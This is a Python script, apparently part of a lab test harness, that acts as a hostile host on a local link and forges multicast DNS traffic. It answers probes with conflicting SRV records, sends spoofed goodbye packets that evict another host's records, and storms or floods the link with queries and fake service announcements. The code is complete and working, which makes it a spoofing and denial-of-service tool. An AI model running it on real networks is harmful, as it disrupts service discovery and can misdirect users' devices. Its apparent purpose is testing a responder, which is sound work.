"""A hostile host on the link: forges mDNS answers and goodbyes for another host's records
(stdlib only; run inside a lab host).

    forger.py --interface civ0 --src4 A --src6 B MODE [options]

Modes:
  probes --prefix LABEL [--type SRV|CLASS3]
      answers every probe (a query with an authority section) for an instance whose first label
      starts with LABEL with a conflicting SRV record (another port and target), at once,
      multicast over the family the probe came over; with --class 3 the forged record is of
      class CH (3), which is no conflict (RFC 6762 §9: class IN only).
  answer --name LABEL... [--class N]
      multicasts one unsolicited conflicting SRV answer for the name over IPv4 and IPv6, at once.
  goodbye --name LABEL... [--delay S]
      waits for the next response carrying records of the name from another host, then S seconds
      later multicasts TTL-0 copies of them (a forged goodbye), over both families.
  storm --name LABEL... --qtype T --rate N --seconds S
      multicasts QM queries for the name at N per second over IPv4 (source port 5353).
  flood --name TYPE-LABELS... --rate N --seconds S [--ttl T]
      announces N new services of the type a second over IPv4 (PTR, SRV, TXT, TTL T, 7200 by
      default), 100 packets a second; each instance is named "flood SEQ TIME", TIME the
      monotonic clock when it was sent, so a browser's lateness can be read off its output.

Prints JSON lines: {"event":"ready"}, {"event":"forged","kind":...,"t":monotonic,"family":4|6,
"name":...} for each forged packet, {"event":"done"} at the end of answer, goodbye and storm.
"""

from __future__ import annotations

import argparse
import json
import os
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from dnsmsg import CACHE_FLUSH, TYPES, build_query, encode_name, parse, rr, show_name  # noqa: E402

GROUP4, GROUP6 = "224.0.0.251", "ff02::fb"


def emit(**event) -> None:
    print(json.dumps({"t": time.monotonic(), **event}), flush=True)


def response(records: list[bytes]) -> bytes:
    """An authoritative response (flags 0x8400) with `records` as answers."""
    return struct.pack("!6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def srv_rdata(port: int, target: list[bytes]) -> bytes:
    return struct.pack("!HHH", 0, 0, port) + encode_name(target)


def uncompressed_rdata(rec: dict) -> bytes:
    """The record's RDATA with any name in it written out (compression points into its message)."""
    if rec["type"] == TYPES["PTR"]:
        return encode_name(rec["target"])
    if rec["type"] == TYPES["SRV"]:
        return rec["rdata"][:6] + encode_name(rec["target"])
    return rec["rdata"]


class Link:
    """Sockets on port 5353 beside any responder, joined on one interface, sending from the
    host's own addresses."""

    def __init__(self, interface: str, src4: str, src6: str) -> None:
        index = socket.if_nametoindex(interface)
        self.v4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.v4.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.v4.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        self.v4.bind(("0.0.0.0", 5353))
        self.v4.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                           struct.pack("4s4si", socket.inet_aton(GROUP4), socket.inet_aton("0.0.0.0"), index))
        self.v4.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src4))
        self.v4.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        self.v4.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
        self.v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.v6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.v6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        self.v6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        self.v6.bind(("::", 5353))
        self.v6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                           socket.inet_pton(socket.AF_INET6, GROUP6) + struct.pack("@I", index))
        self.v6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
        self.v6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        self.v6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
        self.own = {src4, src6}

    def send(self, message: bytes, family: int) -> None:
        if family == 4:
            self.v4.sendto(message, (GROUP4, 5353))
        else:
            self.v6.sendto(message, (GROUP6, 5353))

    def receive(self, timeout: float) -> list[tuple[dict, int, str]]:
        """Messages from other hosts within `timeout`: (parsed, family, source address)."""
        out = []
        for s in select.select([self.v4, self.v6], [], [], timeout)[0]:
            data, source = s.recvfrom(9000)
            address = source[0].split("%")[0]
            if address in self.own:
                continue
            try:
                out.append((parse(data), 4 if s is self.v4 else 6, address))
            except (ValueError, IndexError, struct.error):
                continue
        return out


def conflicting_srv(name: list[bytes], rclass: int) -> bytes:
    return rr(encode_name(name), TYPES["SRV"], 120, srv_rdata(4444, [b"forger", b"local"]), rclass | CACHE_FLUSH)


def forge_probes(link: Link, prefix: bytes, rclass: int) -> None:
    emit(event="ready")
    while True:
        for msg, family, _ in link.receive(1.0):
            if msg["flags"] & 0x8000 or not msg["authority"]:
                continue
            for name, _, _ in msg["questions"]:
                if name and name[0].lower().startswith(prefix.lower()):
                    link.send(response([conflicting_srv(name, rclass)]), family)
                    emit(event="forged", kind="probe-answer", family=family, name=show_name(name))


def forge_answer(link: Link, name: list[bytes], rclass: int) -> None:
    emit(event="ready")
    for family in (4, 6):
        link.send(response([conflicting_srv(name, rclass)]), family)
        emit(event="forged", kind="answer", family=family, name=show_name(name))
    emit(event="done")


def forge_goodbye(link: Link, name: list[bytes], timeout: float, delay: float) -> None:
    emit(event="ready")
    deadline = time.monotonic() + timeout
    wanted = [label.lower() for label in name]
    while time.monotonic() < deadline:
        for msg, _, source in link.receive(0.5):
            if not msg["flags"] & 0x8000:
                continue
            records = [r for r in msg["answers"] + msg["additional"]
                       if r["ttl"] > 0 and ([l.lower() for l in r["name"]] == wanted
                                            or [l.lower() for l in r.get("target", [])] == wanted)
                       and r["type"] in (TYPES["PTR"], TYPES["SRV"], TYPES["TXT"])]
            if not records:
                continue
            time.sleep(delay)
            goodbye = response([rr(encode_name(r["name"]), r["type"], 0, uncompressed_rdata(r),
                                   r["class"] & ~CACHE_FLUSH) for r in records])
            for family in (4, 6):
                link.send(goodbye, family)
                emit(event="forged", kind="goodbye", family=family, name=show_name(name), of=source,
                     records=len(records))
            emit(event="done")
            return
    emit(event="done", error="no response carrying the name arrived")


def storm(link: Link, name: list[bytes], qtype: int, rate: float, seconds: float) -> None:
    emit(event="ready")
    query = build_query(0, [(name, qtype)])
    start = time.monotonic()
    sent = 0
    while (elapsed := time.monotonic() - start) < seconds:
        due = int(elapsed * rate) + 1
        while sent < due:
            link.send(query, 4)
            sent += 1
        link.receive(0.0)
        time.sleep(max(0.0, sent / rate - (time.monotonic() - start)))
    emit(event="done", sent=sent, seconds=time.monotonic() - start)


def flood(link: Link, service_type: list[bytes], rate: float, seconds: float, ttl: int) -> None:
    emit(event="ready")
    start = time.monotonic()
    sent = 0
    while (elapsed := time.monotonic() - start) < seconds:
        records = []
        now = time.monotonic()
        while sent < int(elapsed * rate) + 1:
            instance = [f"flood {sent:07d} {now:.6f}".encode()] + service_type
            instance_wire = encode_name(instance)
            records += [rr(encode_name(service_type), TYPES["PTR"], ttl, instance_wire),
                        rr(instance_wire, TYPES["SRV"], ttl, srv_rdata(9, [b"forger", b"local"]), 1 | CACHE_FLUSH),
                        rr(instance_wire, TYPES["TXT"], ttl, b"\x04v=fl", 1 | CACHE_FLUSH)]
            sent += 1
        # At most 8 instances a datagram: a loop delayed by a loaded machine catches up in many
        # datagrams, never in one larger than a datagram may be (EMSGSIZE).
        for first in range(0, len(records), 8 * 3):
            link.send(response(records[first:first + 8 * 3]), 4)
        link.receive(0.0)
        time.sleep(max(0.0, 0.01 - (time.monotonic() - now)))
    emit(event="done", sent=sent, seconds=time.monotonic() - start)


def main() -> None:
    a = argparse.ArgumentParser()
    a.add_argument("--interface", default="civ0")
    a.add_argument("--src4", required=True)
    a.add_argument("--src6", required=True)
    a.add_argument("mode", choices=["probes", "answer", "goodbye", "storm", "flood"])
    a.add_argument("--prefix", default="")
    a.add_argument("--name", nargs="+", default=[])
    a.add_argument("--class", dest="rclass", type=int, default=1)
    a.add_argument("--qtype", default="SRV", choices=sorted(TYPES))
    a.add_argument("--rate", type=float, default=5000)
    a.add_argument("--seconds", type=float, default=5)
    a.add_argument("--timeout", type=float, default=20)
    a.add_argument("--delay", type=float, default=0.0)
    a.add_argument("--ttl", type=int, default=7200)
    args = a.parse_args()
    link = Link(args.interface, args.src4, args.src6)
    name = [label.encode() for label in args.name]
    if args.mode == "probes":
        forge_probes(link, args.prefix.encode(), args.rclass)
    elif args.mode == "answer":
        forge_answer(link, name, args.rclass)
    elif args.mode == "goodbye":
        forge_goodbye(link, name, args.timeout, args.delay)
    elif args.mode == "storm":
        storm(link, name, TYPES[args.qtype], args.rate, args.seconds)
    else:
        flood(link, name, args.rate, args.seconds, args.ttl)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(0)
